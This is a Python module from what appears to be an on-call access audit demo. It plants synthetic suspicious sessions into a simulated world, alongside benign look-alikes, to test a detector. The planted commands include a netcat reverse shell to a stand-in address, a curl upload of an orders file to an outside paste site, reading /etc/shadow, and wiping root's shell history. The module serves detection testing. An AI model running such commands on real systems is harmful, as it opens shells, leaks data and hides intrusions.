"""Plants what people do once they are in: commands, exports, secrets that call for a question."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from oncall_audit.demo.behaviour import is_silent
from oncall_audit.demo.model import Access, World
from oncall_audit.demo.occasions import idle, is_unused, shifts_from
from oncall_audit.demo.records import access, minutes, plant, resemble
from oncall_audit.demo.windows import allowed, is_clear

Wanted = tuple[str, str, str, int, tuple[str, ...]]
_HOUR = timedelta(hours=1)
# An hour of the night would be a question of its own.
_BY_DAY = range(9, 19)
_AWAY = "203.0.113.9"


def plant_behaviour(world: World) -> None:
    """Plant everything of this module."""
    _commands(world)
    _exports(world)
    _secrets(world)


def quiet_hour(world: World, wanted: Wanted, barred: str = "") -> tuple[str, datetime]:
    """Return who is on shift, and a time by day at which nothing else is going on.

    Nothing opens the resource `barred` to them then, if one is named.
    """
    schedule, system, resource_id, first, _ = wanted
    for shift in shifts_from(world, schedule, first):
        hours = int((shift.ended_at - shift.started_at) / _HOUR)
        zone = ZoneInfo(world.engineers[shift.engineer_id].time_zone)
        for hour in world.random.sample(range(2, hours - 1), hours - 3):
            at = shift.started_at + hour * _HOUR
            if (
                world.since < at < world.until - _HOUR
                and at.astimezone(zone).hour in _BY_DAY
                and is_unused(world, shift.engineer_id, at, hours=2)
                and idle(world, shift.engineer_id, system, at)
                and not is_silent(world, system, resource_id, at - _HOUR, at + _HOUR)
                and not (barred and _is_open(world, shift.engineer_id, barred, at))
            ):
                return shift.engineer_id, at
    raise LookupError(f"{system} is used all day on {schedule}")


def _is_open(world: World, engineer_id: str, resource_id: str, at: datetime) -> bool:
    return not is_clear(allowed(world, engineer_id, resource_id), at, 3 * _HOUR)


def work(world: World, wanted: Wanted, tag: str, form: str = "", actions: int = 4) -> Access:
    """Let whoever is on shift do what is wanted between more usual things."""
    _, system, resource_id, _, said = wanted
    engineer_id, at = quiet_hour(world, wanted)
    span = (at, minutes(world, 12, 25))
    made = access(world, engineer_id, system, resource_id, span, actions, tag=tag, form=form)
    made = world.accesses[-1] = replace(made, said=said)
    return made


def _commands(world: World) -> None:
    tag = "sensitive_command"
    planted: tuple[tuple[Wanted, str], ...] = (
        (
            (
                "Payments primary", "linux", "payments-hosts", 3,
                (f"/usr/bin/nc -e /bin/sh {_AWAY} 4444",),
            ),
            "A shell to an address of no one.",
        ),
        (
            (
                "Data primary", "teleport", "data-hosts", 8,
                ("/usr/bin/curl -T /tmp/orders.csv https://paste.example.com/",),
            ),
            "A file sent to a site outside.",
        ),
        (
            (
                "Search primary", "postgresql", "search-db", 13,
                ("alter role app_search superuser",),
            ),
            "The rights of a program widened by hand.",
        ),
        (
            (
                "Platform primary", "linux", "platform-hosts", 20,
                ("/usr/bin/cat /etc/shadow", "/usr/bin/rm -f /root/.bash_history"),
            ),
            "Passwords read and the traces removed.",
        ),
    )  # fmt: skip
    for wanted, note in planted:
        plant(world, tag, work(world, wanted, tag), note)
    harmless = (
        "/usr/bin/curl -s http://localhost:9090/metrics",
        "/usr/bin/curl -F file=@/tmp/x http://localhost:8080/",
        "/usr/bin/nc -zv localhost 5432",
        "/usr/bin/rm /var/log/app/app.log.7.gz",
        "/usr/bin/cat /root/.ssh/id_ed25519.pub",
    )
    made = work(world, ("Data primary", "linux", "data-hosts", 5, harmless), "benign")
    resemble(world, "commands_at_home", made, "The same names, but nothing leaves the host.")


def _exports(world: World) -> None:
    tag = "bulk_export"
    planted: tuple[Wanted, ...] = (
        ("Payments primary", "postgresql", "payments-db", 9, ("copy orders to stdout",)),
        ("Payments primary", "postgresql", "payments-db", 19, ("select * from customers",)),
        ("Data primary", "teleport", "data-warehouse", 14, ("select id, mail from eu_people",)),
        ("Search primary", "linux", "search-hosts", 25, ("/usr/bin/pg_dump -Fc catalog",)),
    )
    for wanted in planted:
        plant(world, tag, work(world, wanted, tag), f"All of it: {wanted[-1][0]}.")
    bounded: tuple[tuple[str, str, Wanted], ...] = (
        (
            "counts_and_samples",
            "Counted, bounded or of a table that anybody may read.",
            (
                "Payments primary", "postgresql", "payments-db", 24,
                (
                    "copy (select count(*) from customers) to stdout",
                    "select * from customers limit 50",
                    "select * from queue",
                ),
            ),
        ),
        (
            "dump_of_the_schema",
            "Tables without their rows.",
            (
                "Search primary", "linux", "search-hosts", 10,
                ("/usr/bin/pg_dump --schema-only catalog",),
            ),
        ),
    )  # fmt: skip
    for name, why, wanted in bounded:
        resemble(world, name, work(world, wanted, "benign"), why)


def _secret(name: str) -> str:
    return f"secretsmanager:GetSecretValue {json.dumps({'secretId': name})}"


def _many(team: str, count: int) -> tuple[str, ...]:
    return tuple(_secret(f"{team}/app-{number:02d}") for number in range(count))


def _secrets(world: World) -> None:
    tag = "secret_read"
    for schedule, first in (("Payments primary", 12), ("Search primary", 21)):
        team = schedule.partition(" ")[0].lower()
        said = _many(team, 24)
        made = _reading(world, (schedule, "aws", f"{team}-cloud", first, said), 8, tag)
        plant(world, tag, made, "24 secrets one after another.")
    for schedule, team, first in (
        ("Search primary", "payments", 7),
        ("Data primary", "search", 17),
    ):
        secret_id = f"{team}-secrets"
        own = f"{schedule.partition(' ')[0].lower()}-cloud"
        engineer_id, at = quiet_hour(world, (schedule, "aws", own, first, ()), secret_id)
        span = (at, minutes(world, 10, 20))
        made = access(world, engineer_id, "aws", own, span, 3, tag=tag)
        made = world.accesses[-1] = replace(made, said=(_secret(f"{team}/app-03"),))
        note = f"On shift for {schedule.split()[0]}, and none of its secrets."
        plant(world, tag, replace(made, resource_id=secret_id), note)
    few = ("Payments primary", "aws", "payments-cloud", 29, _many("payments", 19))
    resemble(world, "some_secrets", _reading(world, few, 8, "benign"), "Nineteen, not twenty.")
    slow = ("Search primary", "aws", "search-cloud", 28, _many("search", 24))
    why = "As many, but never twenty within ten minutes."
    resemble(world, "secrets_over_the_hour", _reading(world, slow, 45, "benign"), why)


def _reading(world: World, wanted: Wanted, length: int, tag: str) -> Access:
    made = work(world, wanted, tag, actions=2)
    ended_at = made.started_at + timedelta(minutes=length)
    made = world.accesses[-1] = replace(made, ended_at=ended_at)
    return made
